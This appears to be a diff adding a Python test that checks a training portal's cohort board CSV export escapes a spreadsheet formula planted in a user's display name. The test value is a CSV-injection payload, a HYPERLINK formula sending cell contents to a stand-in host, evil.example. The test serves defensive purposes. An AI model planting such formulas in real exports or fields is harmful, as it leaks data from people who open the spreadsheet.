@@ -93,3 +93,19 @@ def test_reports_defuse_a_hostile_question_name(session):
     session.flush()
     marks = analysis.marks_csv(session, trainer, exam.id)
     assert "'=HYPERLINK" in marks and ',=HYPERLINK' not in marks
+
+
+def test_the_cohort_board_csv_defuses_a_hostile_display_name(demo_session):
+    from portal import onboarding
+    from portal.models import User
+    from portal.ui.onboarding import board_csv
+
+    newhire = demo_session.exec(select(User).where(User.username == "newhire")).one()
+    newhire.display_name = '=HYPERLINK("http://evil.example/?"&A1,"Li Na")'
+    demo_session.add(newhire)
+    demo_session.flush()
+    trainer = auth.actor_for(demo_session, auth.find_user(demo_session, "trainer"))
+    data = board_csv(Translator("en"), onboarding.cohort_board(demo_session, trainer))
+    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Li Na\")" in frame.iloc[:, 0].tolist()
+    assert not any(str(v).startswith("=") for v in frame.iloc[:, 0])
